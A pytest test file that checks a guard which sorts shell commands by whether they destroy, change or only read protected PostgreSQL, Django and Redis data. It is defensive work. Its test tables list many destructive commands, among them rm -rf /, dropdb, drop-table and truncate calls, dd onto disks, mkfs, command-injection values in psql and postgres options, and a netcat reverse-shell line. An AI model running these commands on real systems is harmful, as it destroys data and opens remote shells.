"""Programs one by one: those that change data, those that lose data, and those that cannot be judged."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ledgerflow_ops.guard.effects import DataEffect, Effect, Surroundings
from ledgerflow_ops.guard.inside.programs import effect
from ledgerflow_ops_tests.guard.inside.surroundings import APPLICATION, DATABASE, judged, typed
from ledgerflow_ops_tests.guard.inside.surroundings import fed as given_input
from ledgerflow_ops_tests.hypothesis_profiles import examples

DESTROYED_IN_THE_DATABASE = r"""
dropdb ledgerflow_dev
dropdb -U ledgerflow --if-exists ledgerflow_dev
/usr/bin/dropdb x
/usr/lib/postgresql/17/bin/dropdb x
dropuser ledgerflow
initdb -D /var/lib/postgresql/data
pg_resetwal -f /var/lib/postgresql/data
pg_rewind --target-pgdata=/var/lib/postgresql/data
pg_archivecleanup /archive 000000010000000000000010
pg_upgrade -b /a -B /b
pg_dropcluster 17 main --stop
pg_checksums --enable -D /var/lib/postgresql/data
pg_checksums -e
pgbench -i x
pg_ctl initdb
pg_ctl kill KILL 1
pg_ctl start -o '-c fsync=off'
psql -c 'drop database x'
psql -c 'DROP TABLE account'
psql -c 'select 1' -c 'delete from account'
psql -c 'delete from account' -c 'select 1'
psql -Atc 'truncate account'
psql -Atqctruncate
psql -c'drop table x'
psql x --command='drop table x'
psql --comm='drop table x' x
psql x y -c 'drop table x'
psql -f /tmp/x.sql
psql -f/tmp/x.sql
psql -f -
psql -o '|rm -rf /' -c 'select 1'
psql -o /var/lib/postgresql/data/x -c 'select 1'
psql -L /var/lib/postgresql/data/x -c 'select 1'
psql -v x='1; drop table y' -c 'select :x'
psql -v PROMPT1='%`rm`' -l
psql --set=HISTFILE=/var/lib/postgresql/data/x -l
psql -c '\! rm -rf /'
psql -c '\i /tmp/x.sql'
psql -c '\o /tmp/x'
psql -c '\d `rm -rf /var/lib/postgresql`'
psql -c '\g |rm'
psql -c '\gexec'
psql -c '\set AUTOCOMMIT off'
psql -c '\e'
psql -c '\ir x'
psql -c "\copy account from program 'cat x'"
psql -c "\copy account to program 'cat'"
psql -c "\copy account to '/var/lib/postgresql/data/base/1'"
psql -c "\copy (delete from account returning *) to stdout"
psql -c "\copy (delete from account returning *) to '/tmp/x'"
psql -c "select 'drop table x' \gexec"
psql -c "select 1 \; drop table x"
psql --unknown -c 'select 1'
psql -d 'dbname=x options=-csession_preload_libraries=y' -c 'select 1'
psql 'postgresql://h/x?options=-c%20a%3Db' -c 'select 1'
psql 'postgresql://h/x?opt%69ons=-ca' -c 'select 1'
psql -1 -c 'delete from x'
pg_restore -c -d x /tmp/y
pg_restore -cd x y
pg_restore --clean --if-exists -d x y
pg_restore --cl -d x y
pg_restore -C -d postgres y
pg_restore -f /var/lib/postgresql/data/x y
pg_dump -f /var/lib/postgresql/data/x y
pg_dump -f/var/lib/postgresql/data/x y
pg_dump -vf /var/lib/postgresql/data/x y
pg_dump --file=/var/lib/postgresql/data/x y
pg_dump --fil /var/lib/postgresql/data/x y
pg_dump -Fd -f /var/lib/postgresql x
pg_dumpall -f /var/lib/postgresql/data/../data/x
pg_basebackup -D /var/lib/postgresql/data
pg_basebackup -t server:/var/lib/postgresql/x
pg_basebackup -D /tmp/x --waldir=/var/lib/postgresql/data/pg_wal
pg_basebackup -D /tmp/x -T /a=/var/lib/postgresql/data
postgres --single x
postgres -D /other
postgres -c archive_command='rm -rf /'
postgres -carchive_command=x
postgres --archive-command=x
postgres -c restore_command=x
postgres -c data_directory=/tmp/x
postgres -c shared_preload_libraries=evil
postgres -c ARCHIVE_COMMAND=x
postgres --unknown
docker-entrypoint.sh postgres -c archive_command=x
docker-entrypoint.sh dropdb x
docker-entrypoint.sh -c archive_command=x
rm -rf /var/lib/postgresql/data
rm -rf /var/lib/postgresql/data/
rm -rf /var/lib/postgresql/data/*
rm -rf /var/lib/postgresql/data/base/16384
rm -rf /var/lib/postgresql
rm -rf /var/lib
rm -rf /var
rm -rf /
rm -rf /*
rm -rf /v*
rm -rf /var/./lib//postgresql/data
rm -rf /tmp/../var/lib/postgresql/data
rm -rf /var/run/../lib/postgresql/data
rm -rf /tmp/link/../data
rm --help /var/lib/postgresql/data
rm -rf var/lib/postgresql
rm -rf ./var
rm -rf *
rm -rf .
rm -rf ~postgres/data
rm -rf ~
rm -rf -- /var/lib/postgresql/data
rm /proc/1/cwd/PG_VERSION
rm -rf /proc/1/root
rm -rf /{tmp,var}
/bin/rm -rf /var/lib/postgresql/data
rmdir /var/lib/postgresql/data
unlink /var/lib/postgresql/data/PG_VERSION
shred /var/lib/postgresql/data/PG_VERSION
truncate -s 0 /var/lib/postgresql/data/PG_VERSION
dd if=/dev/zero of=/var/lib/postgresql/data/PG_VERSION
dd of=/dev/sda
mv /var/lib/postgresql/data /tmp/x
mv /tmp/x /var/lib/postgresql/data
cp /dev/null /var/lib/postgresql/data/PG_VERSION
cp -t /var/lib/postgresql/data /tmp/x
cp /tmp/x /var/lib/postgresql/data/PG_VERSION -S .bak
cp /tmp/x /var/lib/postgresql/data/PG_VERSION --suffix=.bak
cp /tmp/x /var/lib/postgresql/data/PG_VERSION --backup=numbered -v
cp --no-such-option /var/lib/postgresql/data/PG_VERSION /tmp
cp -l /var/lib/postgresql/data/PG_VERSION /tmp/x
cp -rt/var/lib/postgresql/data /tmp/x
cp --target-directory=/var/lib/postgresql/data /tmp/x
cp --targ=/var/lib/postgresql/data /tmp/x
install /tmp/x /var/lib/postgresql/data/PG_VERSION
rsync -a --delete /tmp/empty/ /var/lib/postgresql/data/
ln -sf /tmp/x /var/lib/postgresql/data/PG_VERSION
ln -s /var/lib/postgresql/data /tmp/x
tar -xf x.tar -C /var/lib/postgresql/data
tar -xf x.tar -C /
tar xf x.tar
tar -xPf x.tar -C /tmp
tar -f/tmp/x.tar -x
tar -C /var -C lib -xf /tmp/x.tar
tar -cf /var/lib/postgresql/data/x.tar /etc
tar --remove-files -cf /tmp/x.tar /var/lib/postgresql/data
tar -cf /tmp/x.tar --checkpoint=1 --checkpoint-action=exec=rm /etc
unzip x.zip -d /var/lib/postgresql/data
unzip x.zip
find /var/lib/postgresql/data -delete
find / -name x -exec rm {} +
find / -ok rm {} \;
tee /var/lib/postgresql/data/PG_VERSION
sed -i s/a/b/ /var/lib/postgresql/data/postgresql.conf
sed -i '1e rm -rf /var' /tmp/x
sed '1w /var/lib/postgresql/data/x' /tmp/x
awk 'BEGIN { system("rm -rf /") }'
sort -o /var/lib/postgresql/data/x /tmp/y
sort --compress-program=evil x
gzip /var/lib/postgresql/data/base/1
mkfs.ext4 /dev/sda
mount /dev/sdb /var/lib/postgresql/data
umount /var/lib/postgresql/data
wipefs -a /dev/sda
python -c 'print(1)'
python x.py
perl -e 'unlink'
sh /tmp/x.sh
sh -c 'rm -rf /var/lib/postgresql/data'
sh -c 'dropdb x'
sh -lc 'dropdb x'
sh -ec 'dropdb x'
sh -c -e 'dropdb x'
bash --norc -c 'dropdb x'
bash -o pipefail -c 'dropdb x'
sh -c -- 'dropdb x'
busybox rm -rf /var/lib/postgresql/data
busybox sh -c 'rm -rf /var/lib/postgresql/data'
env dropdb x
env -i dropdb x
env -u HOME dropdb x
env -iu HOME dropdb x
env A=1 dropdb x
env -S 'dropdb x'
env -S'psql -c' 'drop table x'
env -C /var/lib/postgresql rm -rf data
env PSQLRC=/tmp/x psql -l
env PATH=/tmp ls
env LD_PRELOAD=/tmp/x.so ls
env POSTGRES_DB='x -c drop' sh -c 'psql $POSTGRES_DB'
nice dropdb x
nice -5 dropdb x
nice -n 5 dropdb x
nohup dropdb x
time -p dropdb x
time -o /var/lib/postgresql/data/x true
timeout 5 dropdb x
timeout -s KILL --foreground 5s dropdb x
setsid -w dropdb x
stdbuf -oL dropdb x
ionice -c3 dropdb x
sudo dropdb x
sudo -u postgres -n dropdb x
sudo -nu postgres dropdb x
sudo PGUSER=x dropdb x
su postgres -c 'dropdb x'
su -c 'dropdb x' postgres
su - postgres --command='dropdb x'
su - postgres --comm 'dropdb x'
su -s /bin/sh postgres -c 'dropdb x'
su postgres -- -c 'dropdb x'
su postgres -c 'psql -c "drop table x"'
runuser -u postgres -- dropdb x
runuser -u postgres dropdb x
runuser postgres -c 'dropdb x'
gosu postgres dropdb x
su-exec postgres dropdb x
setpriv --reuid=postgres --clear-groups dropdb x
chroot / dropdb x
chroot /tmp ls
exec dropdb x
command dropdb x
command eval 'dropdb x'
tini -- dropdb x
dumb-init dropdb x
xargs rm
xargs -n1 psql -c
eval 'dropdb x'
env sh -c 'nice su postgres -c "exec dropdb x"'
no-such-program
/tmp/evil/ls-not
/tmp/psql -c 'select 1'
./rm x
redis-cli flushall
redis-cli -n 1 FLUSHDB
redis-cli config set dir /tmp
manage.py flush
nsenter -t 1 ls
curl -o /var/lib/postgresql/data/x http://x
nc -e /bin/sh host 1
ruff check .
"""

CHANGED_IN_THE_DATABASE = r"""
psql -c 'insert into account values (1)'
psql -c 'update account set name = 1 where id = 2'
psql -c 'create table x(a int)'
psql -c 'alter table x add column b int'
psql -c 'select my_function()'
psql -c 'vacuum full account'
psql -c "\copy account from '/tmp/x.csv'"
psql -c 'explain analyze update x set a = 1 where b = 2'
createdb x
createuser x
pg_restore -d x /tmp/y
pg_restore -d x -1 --no-owner /tmp/y
pg_restore --data-only -d x
vacuumdb -a
reindexdb x
clusterdb x
pg_ctl stop
pg_ctl -D /var/lib/postgresql/data restart -m fast
pg_amcheck --install-missing
pg_basebackup -D /tmp/x -C -S slot
postgres -c zero_damaged_pages=on
chmod -R 777 /var/lib/postgresql/data
chown -R root /var/lib/postgresql
touch /var/lib/postgresql/data/standby.signal
kill 1
redis-cli set a b
"""

DESTROYED_IN_THE_APPLICATION = r"""
python manage.py flush
python manage.py flush --noinput
python -Wignore manage.py flush
python -W ignore -X dev -u manage.py flush
python3.12 manage.py flush
/usr/local/bin/python manage.py flush
./manage.py flush
/app/manage.py flush
django-admin flush
python -m django flush
python -mdjango flush
python -um django flush
python manage.py sqlflush
python manage.py reset_db
python manage.py reset_db --noinput
python manage.py reset_schema
python manage.py drop_test_database
python manage.py truncate_tables
python manage.py delete_old_entries
python manage.py remove_stale_contenttypes
python manage.py migrate ledger zero
python manage.py migrate --fake ledger zero
python manage.py shell -c 'from x import Y; Y.objects.all().delete()'
python manage.py shell -c 'connection.cursor()'
python manage.py dbshell -- -c 'drop table x'
python manage.py runscript purge
python -c 'from x import y; y.flush()'
python -c 'import os; os.system("dropdb x")'
python drop_everything.py
poetry run python manage.py flush
uv run manage.py flush
uv run -- python manage.py flush
uv run --with x dropdb x
pipenv run ./manage.py flush
sh -c 'python manage.py flush --noinput'
sh -c 'echo yes | python manage.py reset_db'
bash -c 'cd /app && ./manage.py flush'
env A=1 python manage.py flush
dropdb -h postgres x
psql -h postgres -c 'drop database x'
command eval 'psql -c "drop table x"'
find . -exec dropdb x \;
find . -exec {} \;
sh -c 'dropdb $(echo x)'
sh -c '$X'
sh -c '/usr/bin/drop?b x'
sh -c '~/x'
env -S '-i dropdb x'
sh -c '. ./x'
sh -c 'psql <<< "drop table x"'
redis-cli -h redis flushall
"""

CHANGED_IN_THE_APPLICATION = r"""
python manage.py migrate
python manage.py migrate ledger
python manage.py migrate ledger 0003
python manage.py migrate --noinput
python manage.py loaddata x.json
python manage.py createsuperuser
python manage.py changepassword admin
python manage.py clearsessions
python manage.py test
python manage.py test --noinput --keepdb
python manage.py my_own_command
python manage.py shell -c 'print(1)'
python -c 'print(1)'
python x.py
python -m pytest
pytest
pytest -k ledger
pip install x
gunicorn ledgerflow.wsgi
celery -A ledgerflow worker
no-such-program
sh x.sh
./entrypoint.sh
make x
npm ci
/tmp/evil/ls
env SOMETHING=1 ls
curl -X POST http://localhost:8000/flush
curl -sd x http://localhost:8000
psql -c 'select f(1) from t tablesample system (1)'
sh -c 'python manage.py check && python manage.py migrate'
psql -h postgres -c 'insert into x values (1)'
"""

KNOWN_IN_THE_DATABASE = r"""
dropdb ledgerflow_dev
/usr/lib/postgresql/17/bin/dropdb x
dropuser ledgerflow
initdb -D /var/lib/postgresql/data
pg_resetwal -f /var/lib/postgresql/data
psql -c 'drop database x'
psql -c 'select 1' -c 'delete from account'
psql -Atqc 'drop table x'
psql -c'drop table x'
psql --comm='drop table x' x
pg_restore --clean --if-exists -d x y
rm -rf /var/lib/postgresql/data
rm -rf /var/lib/postgresql/data/*
rm -rf /var/lib
rm -rf /v*
rm -rf /
rm -rf /tmp/../var/lib/postgresql/data
truncate -s 0 /var/lib/postgresql/data/PG_VERSION
dd if=/dev/zero of=/var/lib/postgresql/data/PG_VERSION
find /var/lib/postgresql/data -delete
mv /var/lib/postgresql/data /tmp/x
sh -c 'dropdb x'
sh -c 'true && dropdb x'
sh -c 'rm -rf /var/lib/postgresql/data'
sh -c '> /var/lib/postgresql/data/PG_VERSION'
bash -c 'echo "DROP TABLE x" | psql'
su postgres -c 'psql -c "drop table x"'
sudo -u postgres dropdb x
env A=1 timeout 5 dropdb x
xargs dropdb
redis-cli -n 1 FLUSHDB
python manage.py flush --noinput
"""
KNOWN_IN_THE_APPLICATION = r"""
python manage.py flush
python -W ignore manage.py flush
python -m django flush
uv run manage.py flush
./manage.py reset_db --noinput
sh -c 'cd /app && python manage.py flush --noinput'
python manage.py migrate ledger zero
python manage.py dbshell -- -c 'drop table x'
dropdb -h postgres x
psql -h postgres -c 'drop database x'
redis-cli -h redis flushall
"""
TABLES = [
    (DESTROYED_IN_THE_DATABASE + CHANGED_IN_THE_DATABASE, DATABASE),
    (DESTROYED_IN_THE_APPLICATION + CHANGED_IN_THE_APPLICATION, APPLICATION),
]
CASES = [(line, around) for table, around in TABLES for line in table.splitlines() if line]
KNOWN = [
    *((line, DATABASE) for line in KNOWN_IN_THE_DATABASE.splitlines() if line),
    *((line, APPLICATION) for line in KNOWN_IN_THE_APPLICATION.splitlines() if line),
]


@pytest.mark.parametrize(("line", "around"), CASES, ids=[line for line, _ in CASES])
def test_what_changes_or_destroys_is_never_said_to_read(line: str, around: Surroundings) -> None:
    found = judged(line, around)
    assert found.effect is not Effect.READS, found.what
    assert found.what


@pytest.mark.parametrize(("line", "around"), KNOWN, ids=[line for line, _ in KNOWN])
def test_known_losses(line: str, around: Surroundings) -> None:
    assert judged(line, around).effect is Effect.DESTROYS


@pytest.mark.parametrize(
    "line",
    [
        "python manage.py shell -c 'from x import Withdrawal; print(Withdrawal.objects.count())'",
        "python manage.py shell -c 'print(X.objects.filter(removed=False).count())'",
        "python -c 'import os; print(os.environ)'",
        "pytest -q",
        "npm ci",
        "celery -A x inspect active",
        "python manage.py migrate",
    ],
)
def test_a_word_that_sounds_like_a_loss_is_none(line: str) -> None:
    assert judged(line, APPLICATION).effect is Effect.UNCERTAIN


SEATS = [
    "psql",
    "psql -U x ledgerflow_dev",
    "sh",
    "bash -l",
    "bash",
    "python",
    "python manage.py shell",
    "python manage.py dbshell",
    "python3",
    "redis-cli",
    "su postgres",
    "sudo -i",
    "su - postgres",
    "gosu postgres bash",
    "env psql",
    "sh -c psql",
    "manage.py shell_plus",
    "sh -s x",
    "python -",
    "python -i",
    "zsh",
    "sh -c 'exec bash'",
]


@pytest.mark.parametrize("line", SEATS)
@pytest.mark.parametrize("around", [DATABASE, APPLICATION], ids=["database", "application"])
def test_what_is_typed_or_fed_cannot_be_known(line: str, around: Surroundings) -> None:
    assert judged(line, typed(around)).effect is Effect.UNCERTAIN
    assert judged(line, given_input(around)).effect is Effect.UNCERTAIN


@pytest.mark.parametrize("line", ["psql -c 'select 1'", "ls", "cat", "sh -c ls", "pg_dump x"])
def test_input_that_nobody_reads_does_nothing(line: str) -> None:
    assert judged(line, given_input(DATABASE)).effect is Effect.READS
    assert judged(line, typed(DATABASE)).effect is Effect.READS


@pytest.mark.parametrize(
    ("workdir", "line", "due"),
    [
        ("/var/lib/postgresql/data", "rm PG_VERSION", Effect.DESTROYS),
        ("/var/lib/postgresql", "rm -rf data", Effect.DESTROYS),
        ("/var/lib/postgresql", "rm -rf ./data/", Effect.DESTROYS),
        ("/var/lib/postgresql/data/base", "rm -rf ../../data", Effect.DESTROYS),
        ("/var/lib/postgresql", "rm -rf other", Effect.READS),
        ("/var/lib/postgresql", "rm -rf data2", Effect.READS),
        ("/var/lib/postgresql/data", "rm -f /tmp/x", Effect.READS),
        ("/tmp", "rm -rf *", Effect.READS),
        ("/tmp", "rm -rf ../var", Effect.DESTROYS),
        ("/tmp", "rm -rf ../srv/x", Effect.READS),
        ("/tmp", "unzip x.zip", Effect.READS),
        ("/tmp", "tar xf x.tar", Effect.READS),
        ("/var/lib/postgresql/data", "tar xf /tmp/x.tar", Effect.DESTROYS),
        ("/var/lib/postgresql/data", "sh -c 'cd /tmp || true; rm -rf *'", Effect.DESTROYS),
        ("/tmp", "sh -c 'cd /var; cd lib; rm -rf postgresql'", Effect.DESTROYS),
    ],
)
def test_relative_paths_start_from_the_working_folder(workdir: str, line: str, due: Effect) -> None:
    around = Surroundings(DATABASE.data, terminal=False, input=False, workdir=workdir)
    found = judged(line, around).effect
    assert (found is not Effect.READS) if due is Effect.DESTROYS else (found is not Effect.DESTROYS)


def test_each_of_several_protected_folders_counts() -> None:
    around = Surroundings(("/backups", "/var/lib/postgresql/data/"), terminal=False, input=False)
    assert judged("rm -rf /backups/x", around).effect is Effect.DESTROYS
    assert judged("rm -rf /var/lib/postgresql/data/x", around).effect is Effect.DESTROYS
    assert judged("rm -rf /backups2", around).effect is Effect.UNCERTAIN
    assert judged("rm -rf /x", Surroundings(("/",), terminal=False, input=False)).effect is Effect.DESTROYS


def test_words_for_people() -> None:
    assert judged("dropdb ledgerflow_dev", DATABASE).what == "drops the database ledgerflow_dev"
    why = judged("rm -rf /var/lib/postgresql/data", DATABASE).what
    assert why == "removes or overwrites /var/lib/postgresql/data, where the protected data are"


BITS = """
    psql -c -f --command= sh -lc env -S nice -n su - postgres tar xf -C find -exec {} ; xargs python -m
    manage.py dbshell -- --x=y -D pg_dump busybox sed -i s/a/b/ dd of= $( ` ' " \\ ( ) \\d redis-cli
    timeout time sudo exec awk sort pg_ctl pg_restore chroot cp mv uv run
"""
WORDS = st.text(max_size=12) | st.sampled_from(re.findall(r"\S+", BITS))


@given(st.lists(WORDS, max_size=9), st.sampled_from([DATABASE, APPLICATION, typed(DATABASE)]))
@examples(400)
def test_nothing_raises(argv: list[str], around: Surroundings) -> None:
    found = effect(argv, around)
    assert isinstance(found, DataEffect)


@pytest.mark.parametrize("count", [50, 10_000])
@pytest.mark.parametrize(
    "word", ["env", "sh", "-c", "nice", "su", "psql", "rm", "x=1", "(", "find", "busybox", "--"]
)
def test_long_lines_are_answered(word: str, count: int) -> None:
    assert effect([word] * count, DATABASE).effect in Effect
    assert effect(["sh", "-c", " ".join([word] * count)], DATABASE).effect in Effect
